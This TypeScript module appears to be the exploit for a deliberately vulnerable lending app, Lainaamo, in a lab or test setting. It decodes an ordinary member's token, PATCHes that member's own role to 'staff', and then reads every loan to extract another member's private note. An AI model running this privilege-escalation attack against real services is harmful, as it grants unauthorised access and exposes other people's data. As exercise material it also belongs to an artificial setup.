/** What the attacker knows. */
export interface Target {
  /** Where Lainaamo listens, such as `http://127.0.0.1:41234`. */
  url: string;
  /** The token of an ordinary member's account: the attacker's own. */
  token: string;
  /** Somebody else has this item on loan. */
  item: string;
}

/**
 * Takes from the vulnerable app what no other member may read: it promotes itself to staff, who may
 * see all loans.
 *
 * @returns the note on the loan of `target.item`, exactly as it stands there
 */
export async function attack({ url, token, item }: Target): Promise<string> {
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  // A token is signed, not sealed: its middle part says in the open who it is for.
  const claims = Buffer.from(token.split('.')[1] ?? '', 'base64url').toString();
  const { sub } = JSON.parse(claims) as { sub: string };
  const body = JSON.stringify({ role: 'staff' });
  await fetch(`${url}/members/${sub}`, { method: 'PATCH', headers, body });

  const answer = await fetch(`${url}/staff/loans`, { headers });
  if (!answer.ok) throw new Error(`Still not staff: ${answer.status}.`);
  const loans = (await answer.json()) as { item: string; note: string }[];
  return loans.find((loan) => loan.item === item)?.note ?? 'There is no such loan.';
}
